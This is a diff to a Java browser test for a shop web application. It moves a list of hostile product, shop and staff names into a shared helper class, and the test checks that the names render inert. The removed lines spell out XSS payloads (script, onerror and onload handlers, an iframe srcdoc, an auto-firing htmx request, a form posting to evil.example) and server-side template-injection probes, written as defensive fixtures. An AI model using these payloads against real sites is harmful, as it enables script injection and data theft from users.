@@ -24,27 +24,10 @@ import org.junit.jupiter.api.io.TempDir;
 
 /**
  * Everything that has a name has a hostile one: goods, the shop, who works there; and what is typed is no better. Whatever page
- * shows it shows the text. All that any of it would bring into a page is of the class {@code injected}.
+ * shows it shows the text.
  */
 class HostileNamesTest {
-    private static final List<String> NAMES = List.of(
-            "<script class=injected>alert('script')</script>",
-            "\"><img class=injected src=x onerror=alert('img')>",
-            "' class='injected' onmouseover='alert(1)' x='",
-            "\" class=\"injected\" autofocus onfocus=\"alert(1)\" x=\"",
-            "<svg class=injected onload=alert('svg')><set/></svg>",
-            "</title></style></textarea></script><iframe class=injected srcdoc='<script>parent.alert(1)</script>'>",
-            "<div class=injected hx-post=/basket/cancel hx-trigger=load>x</div>",
-            "<form class=injected action=//evil.example><input name=text id=entry autofocus></form>",
-            "<a class=injected href=\"javascript:alert('a')\">milk</a>",
-            "${7*7} __${7*7}__ *{7*7} #{7*7} [[${7*7}]] [(${7*7})] {{7*7}}",
-            "T(java.lang.Runtime).getRuntime() @{/operator/lock} ~{counter :: keys}",
-            "&lt;b class=injected&gt; &#60;img src=x onerror=alert(1)&#62;",
-            "\u202Egpj.klim\u2066\u2067\u200F before",
-            "null \u0000 bell \u0007 red \u001B[31m line\r\nline\tlast \u0085\u2028\u2029",
-            "W".repeat(400),
-            "Z" + "\u0300\u0301\u0302\u0303\u0334".repeat(60));
-
+    private static final List<String> NAMES = HostileTexts.ALL;
     private static final List<Gtin> ITEMS = IntStream.range(0, NAMES.size())
             .mapToObj("0400%09d"::formatted)
             .map(body -> new Gtin(body + Gtin.checkDigit(body)))
@@ -54,8 +37,7 @@ class HostileNamesTest {
     @TempDir
     static Path data;
 
-    private static final List<String> DIALOGS = new ArrayList<>();
-    private static final List<String> REFUSED = new ArrayList<>();
+    private static final HostileTexts TEXTS = new HostileTexts();
     private static RunningTill till;
     private static Windows windows;
     private static Page desk;
@@ -72,7 +54,7 @@ class HostileNamesTest {
         }
         till = RunningTill.start(data, lines);
         windows = Windows.open();
-        desk = watched(windows.desk(till.address()));
+        desk = TEXTS.watched(windows.desk(till.address()));
     }
 
     private static Store shopNamed(String name) {
@@ -89,19 +71,6 @@ class HostileNamesTest {
                 plain.deliveryDays());
     }
 
-    private static Page watched(Page page) {
-        page.onDialog(dialog -> {
-            DIALOGS.add(dialog.message());
-            dialog.dismiss();
-        });
-        page.onConsoleMessage(message -> {
-            if (message.text().contains("Content Security Policy")) {
-                REFUSED.add(message.text());
-            }
-        });
-        return page;
-    }
-
     @AfterAll
     static void stop() {
         windows.close();
@@ -114,25 +83,8 @@ class HostileNamesTest {
         till.clear();
     }
 
-    /** Nothing ran, nothing was even tried, and nothing came into the page. */
     private static void nothingHappenedOn(Page page, String where) {
-        assertThat(page.locator(".injected").count()).as(where).isZero();
-        assertThat(page.evaluate("""
-                        Array.from(document.querySelectorAll('*')).filter(one => Array.from(one.attributes)
-                            .some(each => each.name.startsWith('on') || /^\\\\s*javascript:/i.test(each.value))).length""")).as(where).isEqualTo(0);
-        assertThat(page.locator("iframe, object, embed, script:not([src])").count())
-                .as(where)
-                .isZero();
-        assertThat(page.locator("#entry").count()).as(where).isLessThan(2);
-        assertThat(page.innerText("body")).as(where).doesNotContain("49 __", "[[49]]", "{{49}}");
-        assertThat(page.url()).as(where).startsWith(till.address());
-        // A part that a page fetches has no style of its own.
-        assertThat(page.evaluate("document.styleSheets.length === 0"
-                        + " || document.documentElement.scrollWidth <= document.documentElement.clientWidth"))
-                .as("no sideways scrolling: " + where)
-                .isEqualTo(true);
-        assertThat(DIALOGS).as(where).isEmpty();
-        assertThat(REFUSED).as(where).isEmpty();
+        TEXTS.didNothingOn(page, till.address(), where);
     }
 
     private static void everyPage(String where) {
@@ -141,7 +93,7 @@ class HostileNamesTest {
             nothingHappenedOn(desk, where + " at " + path);
         }
         desk.navigate(till.address());
-        try (Page phone = watched(windows.phone(till.address()))) {
+        try (Page phone = TEXTS.watched(windows.phone(till.address()))) {
             nothingHappenedOn(phone, where + " on a phone");
         }
     }
